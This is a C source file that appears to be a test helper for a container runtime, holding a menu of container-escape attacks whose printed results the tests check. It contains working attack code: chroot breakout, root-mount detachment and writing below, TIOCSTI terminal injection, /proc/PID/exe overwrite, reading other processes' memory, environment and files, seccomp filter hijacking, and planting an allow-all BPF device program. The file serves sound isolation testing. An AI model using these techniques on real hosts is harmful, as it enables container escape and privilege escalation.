/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: what a hostile program does inside a container that a shell cannot do. One attack a call;
 * each prints what it reached, one fact a line, and exits with 0 even where the kernel refused:
 * the tests judge by what is printed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/mount.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* linux/mount.h and sys/mount.h cannot be included together */
int mount(const char *source, const char *target, const char *type, unsigned long flags,
	const void *data);
int umount2(const char *target, int flags);
enum {
	FLAG_REMOUNT = 32,
	FLAG_BIND = 4096,
	FLAG_PRIVATE_REC = 1 << 18 | 16384,
	UMOUNT_DETACH = 2,
};

/* What runs until it is told to end does not outlive the longest test. */
enum { WHOLE_TEST_MS = 200000 };

static void tell(const char *what, long result)
{
	printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
}

static int64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

/* exchange A B: swaps two names as fast as it can (RENAME_EXCHANGE), until it is killed */
static int exchange(char **args)
{
	int64_t end = now_ms() + WHOLE_TEST_MS;

	while (now_ms() < end)
		for (int i = 0; i < 100; i++)
			renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE);
	return 0;
}

/* The names in a directory, one a line. */
static void list(const char *prefix, int fd)
{
	DIR *dir = fd < 0 ? NULL : fdopendir(dup(fd));
	struct dirent *entry;

	if (!dir) {
		tell(prefix, -1);
		return;
	}
	while ((entry = readdir(dir)))
		if (entry->d_name[0] != '.')
			printf("%s: %s\n", prefix, entry->d_name);
	closedir(dir);
}

/*
 * detach HOW: takes away "/" and enters the own mount namespace again, whose root is then what was
 * below; looks at that and, if HOW is "write", tries to write into it.
 */
static int detach(char **args)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	int file;

	tell("umount /", umount2("/", UMOUNT_DETACH));
	tell("setns", setns(ns, CLONE_NEWNS));
	list("below", open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	if (strcmp(args[0], "write") != 0)
		return 0;
	tell("make writable", mount(NULL, "/", NULL, FLAG_REMOUNT | FLAG_BIND, NULL));
	tell("remount writable", mount(NULL, "/", NULL, FLAG_REMOUNT, NULL));
	file = open("/planted", O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
	tell("write below", file < 0 ? -1 : write(file, "planted\n", 8));
	tell("mkdir below", mkdir("/planted.d", 0755));
	return 0;
}

/* climb: the classic way out of a chroot: a root deeper than the working directory, then up */
static int climb(char **args)
{
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	(void)args;
	mkdir("/tmp/deeper", 0755);
	tell("chroot", chroot("/tmp/deeper"));
	if (fchdir(root) < 0)
		return 1;
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			return 1;
	tell("chroot .", chroot("."));
	list("reached", open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	return 0;
}

/* tiocsti TEXT: pushes input into the terminal at standard input, and by the console's paste */
static int tiocsti(char **args)
{
	char paste[] = { 3 /* TIOCL_PASTESEL */ };
	long r = 0;

	for (const char *at = args[0]; r == 0 && *at; at++)
		r = ioctl(STDIN_FILENO, TIOCSTI, at);
	tell("TIOCSTI", r);
	tell("TIOCLINUX", ioctl(STDIN_FILENO, TIOCLINUX, paste));
	tell("TIOCSCTTY", ioctl(STDIN_FILENO, TIOCSCTTY, 0));
	r = open("/dev/tty", O_RDWR | O_CLOEXEC);
	tell("open /dev/tty", r);
	return 0;
}

static int try_write(const char *what, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0) {
		tell(what, -1);
		return -1;
	}
	tell(what, write(fd, "#!pwned\n", 8));
	close(fd);
	return 0;
}

/*
 * overwrite PATH: writes into the file that PATH (/proc/PID/exe) stands for: by name, by another
 * descriptor's name, and after taking read-only away from its mount, here and in a new user and
 * mount namespace.
 */
static int overwrite(char **args)
{
	struct mount_attr attributes = { .attr_clr = MOUNT_ATTR_RDONLY };
	int fd = open(args[0], O_PATH | O_CLOEXEC);
	char name[64];

	if (fd < 0) {
		tell("open", -1);
		return 0;
	}
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	try_write("write by name", args[0]);
	try_write("write by descriptor", name);
	tell("mount_setattr",
		syscall(SYS_mount_setattr, fd, "", 0x1000, &attributes, sizeof(attributes)));
	try_write("write after it", name);
	tell("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	tell("mount_setattr unshared",
		syscall(SYS_mount_setattr, fd, "", 0x1000, &attributes, sizeof(attributes)));
	try_write("write unshared", name);
	return 0;
}

/* A link of another process that leads to none of the container's own files. */
static void look_at(const char *pid, const char *link)
{
	char path[300], target[4096];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, link);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = '\0';
	printf("link %s -> %s\n", link, target);
}

/* Reads wanted (a path of the host) below a link to a directory of another process. */
static void reach(const char *pid, const char *link, const char *wanted)
{
	char path[4096], bytes[64];
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/%s%s", pid, link, wanted);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes) - 1);
	close(fd);
	if (n <= 0)
		return;
	bytes[n] = '\0';
	printf("reached by %s: %s\n", strncmp(link, "fd/", 3) == 0 ? "fd" : link, bytes);
}

static void look_at_process(const char *pid, const char *wanted)
{
	char path[300], bytes[16];
	struct dirent *entry;
	int fd;
	DIR *dir;

	look_at(pid, "exe");
	look_at(pid, "cwd");
	look_at(pid, "root");
	reach(pid, "root", wanted);
	reach(pid, "cwd", wanted);
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		printf("mem of a stranger opened\n");
	close(fd);
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && read(fd, bytes, sizeof(bytes)) > 0)
		printf("environ of a stranger read\n");
	close(fd);
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0)
		printf("stranger traced\n");
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		char link[280];

		if (entry->d_name[0] == '.')
			continue;
		snprintf(link, sizeof(link), "fd/%s", entry->d_name);
		look_at(pid, link);
		reach(pid, link, wanted);
	}
	if (dir)
		closedir(dir);
}

/*
 * watch STOP PATH: looks into every process that is not the container's own, and there for PATH,
 * until the file STOP is there; says "watching", and "stranger" at the first one
 */
static int watch(char **args)
{
	int64_t end = now_ms() + WHOLE_TEST_MS;
	bool seen = false;
	pid_t self = getpid();

	puts("watching");
	while (now_ms() < end && access(args[0], F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			char path[300], name[32] = "";
			int fd;

			if (atoi(entry->d_name) <= 1 || atoi(entry->d_name) == self)
				continue;
			snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0 && read(fd, name, sizeof(name) - 1) > 0 &&
				strncmp(name, "sh\n", 3) != 0 && strncmp(name, "sleep", 5) != 0) {
				if (!seen)
					puts("stranger");
				seen = true;
				look_at_process(entry->d_name, args[1]);
			}
			close(fd);
		}
		if (proc)
			closedir(proc);
		/* who is traced is no zombie for its own parent before its tracer has waited */
		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
			;
	}
	puts("watched");
	return 0;
}

/* Whether it is a compiler of seccomp filters: everybody may read what it is called by. */
static bool is_compiler(const char *pid)
{
	static const char wanted[] = "hull-seccomp";
	char path[300], name[sizeof(wanted)] = "";
	int fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, name, sizeof(name));
	close(fd);
	return n == sizeof(name) && memcmp(name, wanted, sizeof(wanted)) == 0;
}

/* Puts a program that allows everything in the place of the one that is being compiled. */
static void hijack_compiler(const char *pid)
{
	static const struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/fd/1", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && ftruncate(fd, sizeof(allow)) == 0 &&
		pwrite(fd, &allow, sizeof(allow), 0) == sizeof(allow))
		puts("wrote a program");
	close(fd);
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0)
		puts("opened its memory");
	close(fd);
}

/* hijack STOP: until the file STOP is there, writes in the stead of each compiler that it meets */
static int hijack(char **args)
{
	int64_t end = now_ms() + WHOLE_TEST_MS;
	bool met = false;

	puts("watching");
	while (now_ms() < end && access(args[0], F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			if (atoi(entry->d_name) <= 1 || !is_compiler(entry->d_name))
				continue;
			hijack_compiler(entry->d_name);
			if (!met)
				puts("met a compiler");
			met = true;
		}
		if (proc)
			closedir(proc);
	}
	puts("watched");
	return 0;
}

/* credentials: what a program has: sets, groups, ids */
static int credentials(char **args)
{
	FILE *status = fopen("/proc/self/status", "re");
	char line[4096];

	(void)args;
	while (status && fgets(line, sizeof(line), status))
		if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "Uid", 3) == 0 ||
			strncmp(line, "Gid", 3) == 0 || strncmp(line, "Groups", 6) == 0)
			fputs(line, stdout);
	return 0;
}

/* file-capability FILE: gives it CAP_KILL to inherit (VFS_CAP_REVISION_2, linux/capability.h) */
static int file_capability(char **args)
{
	static const uint32_t value[5] = { 0x02000000, 0, 1 << 5 /* inheritable */, 0, 0 };

	tell("setxattr", setxattr(args[0], "security.capability", value, sizeof(value), 0));
	return 0;
}

/* without-openat2 CMD...: the program with a filter that answers ENOSYS to openat2(2) */
static int without_openat2(char **args)
{
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 437 /* openat2 */, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { .len = 4, .filter = filter };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
		prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		return 1;
	execvp(args[0], args);
	perror(args[0]);
	return 127;
}

/*
 * naive-mount ROOT PATH TIMES: the weakened runtime that shows that a race can be won: checks that
 * PATH leads nowhere outside ROOT, then makes and mounts on it by name.
 */
static int naive_mount(char **args)
{
	long outside = 0, times = atol(args[2]);
	size_t length = strlen(args[0]);
	char path[4096], real[4096];

	if (mount(NULL, "/", NULL, FLAG_PRIVATE_REC, NULL) < 0)
		return 1;
	snprintf(path, sizeof(path), "%s/%s", args[0], args[1]);
	for (long i = 0; i < times; i++) {
		FILE *mounts;
		char line[8192];

		if (!realpath(path, real) || strncmp(real, args[0], length) != 0)
			continue;
		if (mount("naive", path, "tmpfs", 0, "size=4k") < 0)
			continue;
		mounts = fopen("/proc/self/mountinfo", "re");
		while (mounts && fgets(line, sizeof(line), mounts)) {
			char at[4096];

			if (!strstr(line, " naive ") ||
				sscanf(line, "%*s %*s %*s %*s %4095s", at) != 1)
				continue;
			outside += strncmp(at, args[0], length) != 0;
			umount2(at, UMOUNT_DETACH);
		}
		if (mounts)
			fclose(mounts);
	}
	printf("%s\n", outside ? "mounted outside" : "never outside");
	return 0;
}

/* hold-socket NAME: listens on an abstract socket; the control of what looks for such */
static int hold_socket(char **args)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(address.sun_path + 1, sizeof(address.sun_path) - 1, "%s", args[0]);
	if (bind(fd, (struct sockaddr *)&address,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(args[0]))) <
			0 ||
		listen(fd, 1) < 0)
		return 1;
	usleep(WHOLE_TEST_MS * 1000);
	return 0;
}

/* open-file PATH N CMD...: the program with PATH open as descriptor N */
static int open_file(char **args)
{
	int fd = open(args[0], O_RDONLY);

	if (fd < 0 || dup2(fd, atoi(args[1])) < 0)
		return 1;
	if (fd != atoi(args[1]))
		close(fd);
	execvp(args[2], args + 2);
	return 127;
}

static int bpf(int command, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, command, attr, sizeof(*attr));
}

/* plant-program PATH: pins a device program there that allows everything */
static int plant_program(char **args)
{
	const struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr program = {
		.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE,
		.insns = (uintptr_t)insns,
		.insn_cnt = 2,
		.license = (uintptr_t) "GPL",
	};
	union bpf_attr pin = { .pathname = (uintptr_t)args[0] };

	pin.bpf_fd = (uint32_t)bpf(BPF_PROG_LOAD, &program);
	tell("plant", bpf(BPF_OBJ_PIN, &pin));
	return 0;
}

/* believe-program PATH GROUP CMD...: what a runtime does that believes in the pin: attaches it to
 * the cgroup, enters that and becomes the program */
static int believe_program(char **args)
{
	union bpf_attr pin = { .pathname = (uintptr_t)args[0] };
	union bpf_attr attach = { .attach_type = BPF_CGROUP_DEVICE };
	char procs[512];
	int fd;

	snprintf(procs, sizeof(procs), "%s/cgroup.procs", args[1]);
	attach.attach_bpf_fd = (uint32_t)bpf(BPF_OBJ_GET, &pin);
	attach.target_fd = (uint32_t)open(args[1], O_RDONLY | O_DIRECTORY);
	fd = open(procs, O_WRONLY);
	if (bpf(BPF_PROG_ATTACH, &attach) < 0 || write(fd, "0", 1) != 1)
		return 1;
	execvp(args[2], args + 2);
	return 127;
}

static const struct {
	const char *name;
	int n_args;
	int (*run)(char **args);
} attacks[] = {
	{ "exchange", 2, exchange },
	{ "detach", 1, detach },
	{ "climb", 0, climb },
	{ "tiocsti", 1, tiocsti },
	{ "overwrite", 1, overwrite },
	{ "watch", 2, watch },
	{ "hijack", 1, hijack },
	{ "credentials", 0, credentials },
	{ "file-capability", 1, file_capability },
	{ "without-openat2", 1, without_openat2 },
	{ "naive-mount", 3, naive_mount },
	{ "hold-socket", 1, hold_socket },
	{ "open-file", 3, open_file },
	{ "plant-program", 1, plant_program },
	{ "believe-program", 3, believe_program },
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(argv[1], attacks[i].name) == 0 && argc - 2 >= attacks[i].n_args)
			return attacks[i].run(argv + 2);
	fprintf(stderr, "attack: no attack %s\n", argc > 1 ? argv[1] : "");
	return 2;
}
